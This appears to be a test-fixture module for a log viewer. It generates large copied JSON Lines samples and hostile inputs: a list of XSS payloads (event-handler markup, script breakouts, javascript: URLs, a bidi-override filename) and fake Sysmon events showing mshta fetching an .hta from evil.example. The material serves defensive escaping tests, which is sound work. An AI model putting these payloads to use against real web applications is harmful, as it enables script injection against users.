// Inputs made at run time for tests/runtimes/viewer.test.mjs: a large
// JSON Lines file built from copies of the bundled sample, and files with
// hostile text in every field. Nothing here is stored in the repository.

import { closeSync, openSync, readFileSync, writeSync } from "node:fs";

const HOSTS = /WORKSTATION5|DESKTOP-2KGM189/gi;
const TIME = /(\d{4})-(\d{2})-(\d{2})([T ]\d{2}:\d{2}:\d{2})/g;
const DAY = 86_400_000;

/**
 * Writes copies of `sampleText` (JSON Lines) to `path` until it holds at
 * least `targetBytes`. Copy i has its hosts renamed (`WORKSTATION5-c00i`)
 * and every time moved i days later, so each copy is a new set of hosts,
 * in time order, and gives the sample's chains again. Returns
 * `{ copies, bytes, lines }`.
 */
export function writeCopies(path, sampleText, targetBytes) {
  const lines = sampleText.split("\n").filter((l) => l.trim() !== "");
  // Each line as pieces: text, host, time, text, ... so a copy is a join.
  const templates = lines.map((line) => {
    const pieces = [];
    const re = new RegExp(`${HOSTS.source}|${TIME.source}`, "gi");
    let at = 0;
    for (let m; (m = re.exec(line)); ) {
      pieces.push(line.slice(at, m.index));
      pieces.push(m[1] ? { y: +m[1], mo: +m[2], d: +m[3], rest: m[4] } : { host: m[0] });
      at = m.index + m[0].length;
    }
    pieces.push(line.slice(at));
    return pieces;
  });
  const fd = openSync(path, "w");
  let bytes = 0;
  let copies = 0;
  try {
    while (bytes < targetBytes) {
      const suffix = `-c${String(copies).padStart(4, "0")}`;
      const out = [];
      for (const pieces of templates) {
        let text = "";
        for (const p of pieces) {
          if (typeof p === "string") text += p;
          else if (p.host) text += p.host + suffix;
          else {
            const t = new Date(Date.UTC(p.y, p.mo - 1, p.d) + copies * DAY);
            text += `${t.toISOString().slice(0, 10)}${p.rest}`;
          }
        }
        out.push(text);
      }
      const chunk = Buffer.from(out.join("\n") + "\n");
      writeSync(fd, chunk);
      bytes += chunk.length;
      copies++;
    }
  } finally {
    closeSync(fd);
  }
  return { copies, bytes, lines: lines.length * copies };
}

/** Hostile strings: markup, script end tags, javascript: URLs, bidi overrides, NUL bytes. */
export const PAYLOADS = [
  `<img src=x onerror="window.__xss=(window.__xss||0)+1">`,
  `</script><script>window.__xss=2</script>`,
  `<svg onload=window.__xss=3><xss-probe>probe</xss-probe>`,
  `<a href="javascript:window.__xss=4">click</a>`,
  `javascript:window.__xss=5//`,
  `<iframe src="javascript:parent.__xss=6"></iframe>`,
  `evil\u202Eexe.txt`,
  `nul\u0000byte`,
  "`](javascript:x) ![i](http://127.0.0.2:9/x.png) |cell|",
];

const P = PAYLOADS.join(" ");
const guid = (n) => `{11111111-2222-3333-4444-${String(n).padStart(12, "0")}}`;

/**
 * Sysmon (flat) events of one chain with a payload in every string field:
 * mshta started with a hostile command line by a hostile parent, a child,
 * a file, a connection and a DNS lookup, on a host with a hostile name.
 */
export function hostileEvents(tag = "x") {
  const host = `HOST-${tag}${P}`;
  const base = { Channel: "Microsoft-Windows-Sysmon/Operational", Hostname: host };
  const mshta = { ProcessGuid: guid(2), ProcessId: "4242", Image: "C:\\Windows\\System32\\mshta.exe" };
  return [
    {
      ...base,
      EventID: 1,
      UtcTime: "2024-05-01 10:00:00.000",
      ...mshta,
      CommandLine: `mshta.exe javascript:${P} https://evil.example/${encodeURIComponent(P)}.hta`,
      User: `CORP\\${P}`,
      ParentProcessGuid: guid(1),
      ParentProcessId: "100",
      ParentImage: `C:\\Users\\${P}\\parent.exe`,
      ParentCommandLine: `parent.exe ${P}`,
      OriginalFileName: "MSHTA.EXE",
    },
    {
      ...base,
      EventID: 1,
      UtcTime: "2024-05-01 10:00:01.000",
      ProcessGuid: guid(3),
      ProcessId: "4343",
      Image: `C:\\Windows\\System32\\cmd.exe`,
      CommandLine: `cmd.exe /c ${P}`,
      User: `CORP\\${P}`,
      ParentProcessGuid: mshta.ProcessGuid,
      ParentProcessId: mshta.ProcessId,
      ParentImage: mshta.Image,
      ParentCommandLine: `mshta.exe ${P}`,
    },
    { ...base, EventID: 11, UtcTime: "2024-05-01 10:00:02.000", ...mshta, TargetFilename: `C:\\Users\\Public\\${P}.hta` },
    { ...base, EventID: 22, UtcTime: "2024-05-01 10:00:03.000", ...mshta, QueryName: `${P}.evil.example`, QueryResults: P },
    {
      ...base,
      EventID: 3,
      UtcTime: "2024-05-01 10:00:04.000",
      ...mshta,
      Protocol: "tcp",
      Initiated: "true",
      SourceIp: "10.0.0.5",
      SourcePort: "50000",
      DestinationIp: "203.0.113.7",
      DestinationPort: "443",
      DestinationHostname: `${P}.evil.example`,
    },
  ];
}

/** A line holding a string of `n` characters (over the core's item limit: a rejected item). */
export function hugeLine(n = 1 << 20) {
  return JSON.stringify({ EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Hostname: "huge", CommandLine: `<img src=x onerror=window.__xss=9>${"A".repeat(n)}` });
}

/** Event XML (the shape wevtutil and Event Viewer export) of hostile events. */
export function hostileXml() {
  const esc = (s) => String(s).replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;").replace(/\u0000/g, "");
  const events = hostileEvents("xml").map((e) => {
    const data = Object.entries(e)
      .filter(([k]) => !["EventID", "Channel", "Hostname"].includes(k))
      .map(([k, v]) => `<Data Name="${k}">${esc(v)}</Data>`)
      .join("");
    return `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>${e.EventID}</EventID><Channel>${e.Channel}</Channel><Computer>${esc(e.Hostname)}</Computer></System><EventData>${data}</EventData></Event>`;
  });
  return `<?xml version="1.0" encoding="utf-8"?>\n<Events>${events.join("\n")}</Events>\n`;
}

/** The sample as text. */
export const sampleText = (path) => readFileSync(path, "utf8");
